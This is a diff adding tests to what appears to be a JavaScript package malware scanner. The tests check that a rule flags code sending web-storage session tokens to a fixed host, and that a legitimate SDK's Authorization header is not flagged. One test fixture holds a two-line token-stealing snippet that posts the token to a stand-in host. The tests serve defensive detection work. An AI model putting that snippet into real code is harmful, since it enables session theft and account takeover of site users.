@@ -265,3 +265,24 @@ describe('drainers on other chains and through signatures, redirects by markup, 
     );
   });
 });
+
+describe("a session's token from web storage", () => {
+  it('read by its usual key and posted to a fixed host', () => {
+    const r = analyzeSource({
+      'package.json': pkg,
+      'index.js': `const t = localStorage.getItem('access_token') || sessionStorage.getItem('jwt');
+fetch('https://metrics.ui-kit.example/c', { method: 'POST', body: JSON.stringify({ t, h: location.host }) });`,
+    });
+    expect(r.evidence.map((e) => e.rule)).toContain('js.page-secret-exfil');
+  });
+  it("quiet: a service's SDK sending the token it stored as the request's Authorization header", () => {
+    const r = analyzeSource({
+      'package.json': pkg,
+      'index.js': `export async function me() {
+  const t = localStorage.getItem('access_token');
+  return (await fetch('https://api.saas.example/v1/me', { headers: { Authorization: 'Bearer ' + t } })).json();
+}`,
+    });
+    expect(r.evidence.filter((e) => 'threat_type' in e && e.confidence >= 0.5)).toEqual([]);
+  });
+});
